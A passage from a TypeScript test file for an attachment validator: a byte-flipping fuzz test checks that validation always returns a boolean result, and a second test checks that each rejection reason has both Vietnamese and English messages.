    let r = 0;
    for (const sample of samples) {
      for (let i = 0; i < 40; i++) {
        const copy = Buffer.from(sample);
        for (let flips = 0; flips < 4; flips++) {
          const at = random.readUInt16LE(r++ % 3998) % copy.length;
          copy[at] = random[r++ % 4000];
        }
        const cut = copy.subarray(0, 1 + (random.readUInt16LE(r++ % 3998) % copy.length));
        for (const input of [copy, cut]) {
          const result = await validateAttachment(input);
          expect(typeof result.ok).toBe('boolean');
        }
      }
    }
  });
});

describe('messages', () => {
  it('has a Vietnamese and an English message for every problem', () => {
    const problems: AttachmentProblem[] = [
      'too_large',
      'empty',
      'unsupported_type',
      'corrupt',
      'too_many_pixels',
      'zip_too_large',
      'zip_too_many_entries',
      'encrypted_or_macro',
      'active_content',
    ];
    expect(Object.keys(ATTACHMENT_PROBLEM_MESSAGES).sort()).toEqual([...problems].sort());
    for (const problem of problems) {
      expect(ATTACHMENT_PROBLEM_MESSAGES[problem].vi).toMatch(/[à-ỹ]/);
      expect(ATTACHMENT_PROBLEM_MESSAGES[problem].en.length).toBeGreaterThan(5);
    }
  });
});
